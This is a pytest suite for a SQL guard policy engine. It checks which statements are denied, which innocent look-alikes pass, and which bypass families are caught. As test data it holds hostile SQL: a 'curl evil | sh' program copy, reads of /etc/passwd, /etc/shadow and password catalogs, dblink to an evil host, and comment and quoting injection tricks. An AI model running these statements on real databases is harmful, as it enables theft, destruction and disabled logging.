"""Every catalog rule both ways, per dialect: the refused statement and its innocent look-alike."""

from __future__ import annotations

import pytest

from governed_db.policy import evaluate

# (dialect, sql, rule expected to fire, action in production)
REFUSED = [
    ("postgres", "SELECT 'unterminated", "unparseable", "deny"),
    ("postgres", "frobnicate", "unknown-statement", "require_approval"),
    ("postgres", "SELECT " + "(" * 3000 + "1" + ")" * 3000, "analysis-limit", "deny"),
    ("postgres", "SELECT 1; SELECT 2", "multiple-statements", "deny"),
    ("postgres", "SELECT '" + "x" * 100_001 + "'", "statement-size", "deny"),
    ("mysql", "SELECT 1 /*!50000 , SLEEP(5) */", "executable-comment", "deny"),
    ("postgres", "DELETE FROM orders", "unbounded-write", "deny"),
    ("mysql", "DELETE FROM orders LIMIT 10", "unbounded-write", "deny"),
    ("sqlite", "UPDATE orders SET total = 0", "unbounded-write", "deny"),
    ("postgres", "UPDATE orders SET total = 0 WHERE 1 = 1", "tautological-where", "deny"),
    ("mysql", "DELETE FROM orders WHERE id = id", "tautological-where", "deny"),
    ("postgres", "DELETE FROM orders WHERE true OR id = 3", "tautological-where", "deny"),
    (
        "postgres",
        "DELETE FROM orders WHERE id IS NOT NULL OR id IS NULL",
        "undecidable-where",
        "require_approval",
    ),
    ("postgres", "UPDATE t SET a = 1 WHERE name LIKE '%'", "undecidable-where", "require_approval"),
    (
        "postgres",
        "WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d",
        "dml-in-cte",
        "require_approval",
    ),
    ("postgres", "EXPLAIN ANALYZE DELETE FROM t WHERE id = 1", "explain-analyze", "require_approval"),
    (
        "postgres",
        "EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1 WHERE id = 2",
        "explain-analyze",
        "require_approval",
    ),
    ("mysql", "ANALYZE DELETE FROM t WHERE id = 1", "explain-analyze", "require_approval"),
    ("postgres", "SELECT * INTO backup_t FROM t", "select-into", "require_approval"),
    ("postgres", "CREATE TABLE c AS SELECT * FROM t", "select-into", "require_approval"),
    ("postgres", "ALTER TABLE orders ADD COLUMN note text", "ddl", "warn"),
    ("postgres", "DROP TABLE orders", "drop", "deny"),
    ("mysql", "drop   table\n  Orders", "drop", "deny"),
    ("postgres", "TRUNCATE orders", "truncate", "deny"),
    ("postgres", "DROP TABLE orders CASCADE", "cascade", "deny"),
    ("postgres", "ALTER TABLE orders DROP COLUMN total", "destructive-alter", "deny"),
    ("postgres", "CREATE INDEX i ON orders (total)", "ddl", "warn"),
    ("postgres", "DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$", "dynamic-sql", "require_approval"),
    ("mysql", "PREPARE s FROM 'DROP TABLE t'", "dynamic-sql", "require_approval"),
    ("postgres", "CALL purge_everything()", "dynamic-sql", "require_approval"),
    ("postgres", "CREATE FUNCTION f() RETURNS void AS $$ DELETE FROM t $$ LANGUAGE sql", "stored-code", "require_approval"),
    ("mysql", "CREATE EVENT e ON SCHEDULE EVERY 1 HOUR DO DELETE FROM t", "stored-code", "require_approval"),
    ("sqlite", "CREATE TRIGGER tr AFTER INSERT ON t BEGIN DELETE FROM u; END", "stored-code", "require_approval"),
    ("sqlite", "CREATE TRIGGER tr AFTER INSERT ON t BEGIN DELETE FROM u; END; DELETE FROM u", "multiple-statements", "deny"),
    ("postgres", "CREATE EXTENSION dblink", "extension-load", "deny"),
    ("sqlite", "SELECT load_extension('/tmp/evil.so')", "extension-load", "deny"),
    ("duckdb", "INSTALL httpfs", "extension-load", "deny"),
    ("postgres", "SELECT pg_read_file('/etc/passwd')", "function-file-access", "deny"),
    ("postgres", "SELECT * FROM pg_ls_dir('.')", "function-file-access", "deny"),
    ("postgres", "SELECT lo_import('/etc/passwd')", "function-file-access", "deny"),
    ("mysql", "SELECT LOAD_FILE('/etc/passwd')", "function-file-access", "deny"),
    ("sqlite", "SELECT writefile('/tmp/x', 'y')", "function-file-access", "deny"),
    ("postgres", "SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)", "function-remote", "deny"),
    ("postgres", "SELECT set_config('log_statement', 'none', false)", "function-server-control", "deny"),
    ("postgres", "SELECT set_config(name, 'x', false) FROM settings", "function-server-control", "deny"),
    ("postgres", "SELECT pg_terminate_backend(42)", "function-server-control", "deny"),
    ("postgres", "SET standard_conforming_strings = off", "lexing-settings", "deny"),
    ("postgres", "NOTIFY jobs, 'secret'", "notify", "require_approval"),
    ("postgres", "SELECT pg_sleep(10)", "function-delay", "deny"),
    ("mysql", "SELECT id FROM t WHERE id = 1 AND SLEEP(5)", "function-delay", "deny"),
    ("mysql", "SELECT BENCHMARK(1000000, MD5('a'))", "function-delay", "deny"),
    ("mysql", "DO SLEEP(5)", "function-delay", "deny"),
    ("mysql", "DELETE FROM orders WHERE %s", "tautological-where", "deny"),
    ("postgres", "DECLARE c CURSOR FOR SELECT pg_read_file('/etc/passwd')", "function-file-access", "deny"),
    ("duckdb", "EXPORT DATABASE '/tmp/everything'", "file-io", "deny"),
    ("postgres", "COPY orders TO '/tmp/orders.csv'", "file-io", "deny"),
    ("mysql", "SELECT * FROM orders INTO OUTFILE '/tmp/o'", "file-io", "deny"),
    ("mysql", "LOAD DATA INFILE '/tmp/o' INTO TABLE orders", "file-io", "deny"),
    ("sqlite", "VACUUM INTO '/tmp/copy.db'", "file-io", "deny"),
    ("postgres", "COPY orders FROM PROGRAM 'curl evil | sh'", "copy-program", "deny"),
    ("sqlite", "ATTACH DATABASE '/tmp/other.db' AS other", "attach", "deny"),
    ("postgres", "GRANT ALL ON orders TO mallory", "privilege-change", "deny"),
    ("postgres", "REVOKE SELECT ON orders FROM alice", "privilege-change", "deny"),
    ("postgres", "CREATE ROLE mallory SUPERUSER", "user-management", "deny"),
    ("postgres", "ALTER USER alice WITH PASSWORD 'x'", "user-management", "deny"),
    ("mysql", "CREATE USER bob IDENTIFIED BY 'x'", "user-management", "deny"),
    ("mysql", "SET PASSWORD = 'x'", "user-management", "deny"),
    ("postgres", "SET ROLE postgres", "session-identity", "deny"),
    ("postgres", "SET SESSION AUTHORIZATION postgres", "session-identity", "deny"),
    ("postgres", "ALTER SYSTEM SET log_statement = 'none'", "settings-critical", "deny"),
    ("mysql", "SET GLOBAL general_log = 0", "settings-critical", "deny"),
    ("mysql", "SET @@global.read_only = 0", "settings-critical", "deny"),
    ("mysql", "SET sql_log_bin = 0", "settings-critical", "deny"),
    ("sqlite", "PRAGMA writable_schema = 1", "settings-critical", "deny"),
    ("sqlite", "PRAGMA query_only = 0", "settings-critical", "deny"),
    ("postgres", "SET default_transaction_read_only = off", "settings-critical", "deny"),
    ("postgres", "ALTER DATABASE app SET log_statement = 'none'", "settings-critical", "deny"),
    ("postgres", "SET enable_seqscan = off", "settings-write", "require_approval"),
    ("postgres", "BEGIN; DELETE FROM t WHERE id = 1; COMMIT", "transaction-control", "deny"),
    ("postgres", "PREPARE TRANSACTION 'x'", "transaction-control", "require_approval"),
    ("postgres", "LOCK TABLE orders IN ACCESS EXCLUSIVE MODE", "lock", "require_approval"),
    ("mysql", "LOCK TABLES orders WRITE", "lock", "require_approval"),
    ("postgres", "VACUUM FULL orders", "maintenance", "require_approval"),
    ("mysql", "KILL 42", "server-control", "deny"),
    ("postgres", "SELECT rolpassword FROM pg_authid", "system-catalog", "deny"),
    ("mysql", "SELECT authentication_string FROM mysql.user", "system-catalog", "deny"),
    ("mysql", "SELECT Host, Username, Password FROM mysql.servers", "system-catalog", "deny"),
    ("sqlite", "UPDATE sqlite_master SET sql = 'x' WHERE name = 't'", "system-catalog", "deny"),
    ("mysql", "SELECT * FROM otherdb.orders", "cross-database", "warn"),
    ("mysql", "UPDATE t SET note = 'it\\'s' WHERE id = 1", "backslash-quote", "require_approval"),
    ("mysql", "SELECT @q := full_name FROM t", "variable-copy", "deny"),
    ("postgres", "ALTER TABLE t RENAME COLUMN ssn TO note", "schema-rewrite", "require_approval"),
    ("postgres", "SELECT query_to_xml('SELECT 1', true, false, '')", "function-dynamic-sql", "deny"),
    ("postgres", "SELECT pg_notify('c', 'x')", "function-notify", "require_approval"),
    ("postgres", "RESET ALL", "settings-critical", "deny"),
    ("postgres", "DISCARD ALL", "session-identity", "deny"),
    ("postgres", "SELECT * FROM otherdb.public.orders", "cross-database", "warn"),
]

# Innocent look-alikes and housekeeping: allowed in production with zero configuration.
INNOCENT = [
    ("postgres", "SELECT 'DROP TABLE orders; DELETE FROM t' AS note"),
    ("postgres", "SELECT 1 -- DROP TABLE orders"),
    ("postgres", "/* DELETE FROM t */ SELECT 1"),
    ("postgres", "SELECT 1 /* a /* nested */ ; DROP TABLE t */"),
    ("postgres", "SELECT E'\\'; DROP TABLE t; --' AS s"),
    ("postgres", "SELECT $$;DROP TABLE t;$$"),
    ("mysql", "SELECT 'a\\'s' AS s"),
    ("mysql", "SELECT 1 # DROP TABLE t"),
    ("mysql", "SELECT '/*! DROP TABLE t */' AS s"),
    ("mysql", "-- just a comment"),
    ("postgres", "UPDATE orders\n   SET status = 'shipped'\n WHERE id = 42"),
    ("mysql", "UPDATE orders SET status = 'x' WHERE id = 1 LIMIT 1"),
    ("postgres", "DELETE FROM orders WHERE status = 'a' OR status = 'b'"),
    ("postgres", "DELETE FROM orders o USING customers c WHERE o.customer_id = c.id AND c.gone"),
    ("postgres", "WITH r AS (SELECT id FROM orders WHERE total > 10) SELECT * FROM r"),
    ("postgres", "EXPLAIN SELECT * FROM orders"),
    ("postgres", "EXPLAIN DELETE FROM orders"),
    ("postgres", "SELECT 1"),
    ("postgres", "SELECT version()"),
    ("postgres", "SHOW server_version"),
    ("postgres", "SHOW TRANSACTION ISOLATION LEVEL"),
    ("postgres", "SELECT current_setting('server_version_num')"),
    ("postgres", "SELECT table_name FROM information_schema.tables WHERE table_schema = 'public'"),
    (
        "postgres",
        "SELECT c.relname FROM pg_catalog.pg_class c JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace",
    ),
    ("postgres", "BEGIN"),
    ("postgres", "COMMIT"),
    ("postgres", "ROLLBACK"),
    ("postgres", "START TRANSACTION ISOLATION LEVEL SERIALIZABLE"),
    ("postgres", "BEGIN READ ONLY"),
    ("postgres", "SAVEPOINT sa_savepoint_1"),
    ("postgres", "RELEASE SAVEPOINT sa_savepoint_1"),
    ("postgres", "ROLLBACK TO SAVEPOINT sa_savepoint_1"),
    ("postgres", "SET datestyle TO ISO"),
    ("postgres", "SET TIME ZONE 'UTC'"),
    ("postgres", "SET client_encoding TO 'UTF8'"),
    ("postgres", "SET search_path TO public"),
    ("postgres", "SET statement_timeout = 5000"),
    ("postgres", "DISCARD TEMP"),
    ("postgres", "COPY orders TO STDOUT"),
    ("postgres", "SELECT now(), pg_backend_pid()"),
    ("mysql", "SET NAMES utf8mb4"),
    ("mysql", "SET autocommit = 0"),
    ("mysql", "SET SESSION TRANSACTION ISOLATION LEVEL READ COMMITTED"),
    ("mysql", "SHOW VARIABLES LIKE 'sql_mode'"),
    ("mysql", "SHOW VARIABLES LIKE 'lower_case_table_names'"),
    ("mysql", "SELECT DATABASE()"),
    ("mysql", "SELECT @@version, @@tx_isolation"),
    ("mysql", "SELECT VERSION()"),
    ("mysql", "DESCRIBE orders"),
    ("mysql", "SHOW CREATE TABLE orders"),
    ("mysql", "SELECT * FROM information_schema.columns WHERE table_name = 'orders'"),
    ("mysql", "EXPLAIN SELECT * FROM orders"),
    ("mysql", "START TRANSACTION"),
    ("mysql", "SAVEPOINT s1"),
    ("mysql", "RELEASE SAVEPOINT s1"),
    ("sqlite", "PRAGMA table_info(orders)"),
    ("sqlite", "PRAGMA index_list('orders')"),
    ("sqlite", "PRAGMA foreign_keys = ON"),
    ("sqlite", "PRAGMA journal_mode = WAL"),
    ("sqlite", "PRAGMA user_version"),
    ("sqlite", "SELECT name FROM sqlite_master WHERE type = 'table'"),
    ("sqlite", "SELECT sqlite_version()"),
    ("sqlite", "BEGIN IMMEDIATE"),
    ("sqlite", "INSERT INTO orders (id, total) VALUES (1, 2)"),
    ("duckdb", "SELECT * FROM orders WHERE id = 1"),
    ("duckdb", "COPY orders TO STDOUT"),
    ("postgres", "SELECT * FROM orders FOR UPDATE"),
    ("mysql", "INSERT INTO orders (id, total) VALUES (%s, %s)"),
    ("mysql", "UPDATE orders SET total = %(total)s WHERE id = %(id)s AND note LIKE 'a%%'"),
    ("postgres", "DELETE FROM orders WHERE id = %(id)s"),
    ("sqlite", "DELETE FROM orders WHERE id = ?"),
    ("duckdb", "DELETE FROM orders WHERE id = $1"),
    ("postgres", "SELECT set_config('search_path', 'app, public', false)"),
    ("postgres", "DECLARE c CURSOR WITH HOLD FOR SELECT * FROM orders"),
    ("postgres", "FETCH 100 FROM c"),
    ("postgres", "CLOSE c"),
    ("mysql", "DO RELEASE_LOCK('x')"),
    ("duckdb", "CREATE TEMP TABLE scratch AS SELECT * FROM orders"),
    ("duckdb", "SUMMARIZE orders"),
    ("sqlite", "PRAGMA user_version = 3"),
    ("mysql", "SELECT id INTO @last FROM orders WHERE id = 1"),
    ("postgres", "DELETE FROM sessions WHERE expired"),
]

# Bypass attempts, by family: each must be refused (not allowed to run as is) in production.
BYPASSES = [
    ("case/whitespace", "postgres", "dElEtE\n\tFROM\n orders"),
    ("comments as whitespace", "postgres", "DELETE/**/FROM/**/orders"),
    ("comment hides nothing", "mysql", "DELETE FROM orders -- WHERE id = 1"),
    ("quoted identifiers", "postgres", 'DROP TABLE "orders"'),
    ("backslash-escaped quote (standard strings)", "postgres", "SELECT 'x\\'; DROP TABLE orders; --'"),
    ("dollar quoting", "postgres", "SELECT $a$ x $a$; DROP TABLE orders"),
    ("MySQL --1 is not a comment", "mysql", "SELECT 1 --1\n; DROP TABLE orders"),
    ("MySQL backslash quote, DROP in the NO_BACKSLASH_ESCAPES reading", "mysql", "SELECT 'a\\'; DROP TABLE t; -- ' AS s"),
    ("MySQL # comment then stacked", "mysql", "SELECT 1 # x\n; DROP TABLE orders"),
    ("nested comment closing early (not in PG)", "postgres", "SELECT 1 /* /* */ ; DROP TABLE orders; /* */"),
    ("MySQL executable comment", "mysql", "SELECT 1 /*!50000 ; DROP TABLE orders */"),
    ("MariaDB executable comment", "mysql", "SELECT 1 /*M!100000 ; DROP TABLE orders */"),
    ("text that is only an executable comment", "mysql", "/*!50000 DROP TABLE orders */"),
    ("executable comment after a line comment", "mysql", "-- tidy\n/*! DROP TABLE orders */"),
    ("executable comment hides a function", "mysql", "SELECT id /*!, SLEEP(10) */ FROM orders"),
    ("DML in a CTE", "postgres", "WITH x AS (UPDATE orders SET total = 0 RETURNING id) SELECT count(*) FROM x"),
    ("DML in a CTE of an INSERT", "postgres", "WITH x AS (DELETE FROM orders RETURNING *) INSERT INTO log SELECT * FROM x"),
    ("EXPLAIN ANALYZE runs DML", "postgres", "EXPLAIN (ANALYZE true) DELETE FROM orders"),
    ("MariaDB ANALYZE runs DML", "mysql", "ANALYZE UPDATE orders SET total = 0"),
    ("dynamic SQL", "postgres", "DO $$ BEGIN EXECUTE 'TRUNCATE orders'; END $$"),
    ("prepared dynamic SQL", "mysql", "PREPARE s FROM CONCAT('DROP ', 'TABLE orders')"),
    ("side effect inside SELECT", "postgres", "SELECT id FROM orders WHERE id = (SELECT pg_terminate_backend(1))"),
    ("side effect in a subquery", "mysql", "SELECT (SELECT LOAD_FILE('/etc/shadow')) AS x"),
    ("delay in a predicate", "mysql", "SELECT * FROM orders WHERE id = 1 AND IF(1=1, SLEEP(5), 0)"),
    ("LIMIT does not bound", "mysql", "UPDATE orders SET total = 0 ORDER BY id LIMIT 100000"),
    ("always-true predicate", "mysql", "DELETE FROM orders WHERE 1 OR id = 2"),
    ("function of itself", "postgres", "UPDATE orders SET total = 0 WHERE COALESCE(id, 0) = COALESCE(id, 0)"),
    ("trailing second statement without spaces", "sqlite", "SELECT 1;DROP TABLE orders"),
    ("unterminated string", "postgres", "SELECT 'x; DROP TABLE orders"),
    ("NUL byte", "mysql", "SELECT 1 \x00DROP TABLE orders"),
    ("psql meta-command", "postgres", "\\! rm -rf /"),
    ("stored code defined to run later", "postgres",
     "CREATE FUNCTION f() RETURNS trigger AS $$ BEGIN DELETE FROM orders; RETURN NULL; END $$ LANGUAGE plpgsql"),
]


@pytest.mark.parametrize(("dialect", "sql", "rule", "action"), REFUSED)
def test_rule_fires_in_production(dialect: str, sql: str, rule: str, action: str) -> None:
    """The rule fires on its statement and the production decision is the expected action."""
    d = evaluate(sql, dialect=dialect)
    assert rule in d.rules, (d.rules, d.reason)
    assert d.action.value == action, (d.action, d.reason)
    assert d.remedy or d.action.value == "warn"


@pytest.mark.parametrize(("dialect", "sql"), INNOCENT)
def test_innocent_statement_allowed(dialect: str, sql: str) -> None:
    """Look-alikes and driver/ORM housekeeping pass in production with no configuration."""
    d = evaluate(sql, dialect=dialect)
    assert d.action.value == "allow", (d.rules, d.reason)


@pytest.mark.parametrize(("family", "dialect", "sql"), BYPASSES, ids=[b[0] for b in BYPASSES])
def test_bypass_attempt_refused(family: str, dialect: str, sql: str) -> None:
    """Known bypass families are refused before they run."""
    d = evaluate(sql, dialect=dialect)
    assert not d.allowed, (family, d.action, d.rules)


def test_every_catalog_rule_is_exercised() -> None:
    """The REFUSED table covers every rule that fires with zero configuration."""
    from governed_db.policy.rules import catalog

    configured_only = {"write-statement", "table-deny", "table-allow", "select-star", "missing-limit", "max-rows",
                       "identity-unverified", "rate-limit-statements", "rate-limit-rows", "rate-limit-unavailable",
                       # fire for agents only: exercised in tests/test_rules_construction.py
                       "search-path", "agent-ddl"}  # fmt: skip
    # masking's rules need a connection (what is masked for whom): exercised in tests/test_masking_rules.py
    from governed_db.policy.rules.masking import MASKING_RULES

    covered = {r for _, _, r, _ in REFUSED}
    assert set(catalog()) - configured_only - set(MASKING_RULES) - covered == set()


@pytest.mark.parametrize(("dialect", "sql", "rule", "action"), REFUSED[:20])
def test_development_is_observe_only(dialect: str, sql: str, rule: str, action: str) -> None:
    """In development every refusal is downgraded to warn but still recorded."""
    d = evaluate(sql, dialect=dialect, environment="development")
    assert d.action.value in ("warn", "allow") and rule in d.rules
    assert d.allowed


def test_staging_is_lighter_than_production() -> None:
    """Staging defaults: multiple statements warn instead of deny."""
    assert evaluate("SELECT 1; SELECT 2", dialect="postgres", environment="staging").action.value == "warn"
    assert evaluate("SELECT 1; SELECT 2", dialect="postgres", environment="qa-unknown").action.value == "deny"


def test_function_rules_name_the_functions_called() -> None:
    """Function rules say which functions were called and what each kind does."""
    d = evaluate("SELECT pg_sleep(1), dblink_connect('x'), lo_import('/etc/passwd')", dialect="postgres")
    assert sorted(h.reason for h in d.hits) == [
        "calls dblink_connect(), which reaches another server",
        "calls lo_import(), which touches server files",
        "calls pg_sleep(), which stalls the connection",
    ]
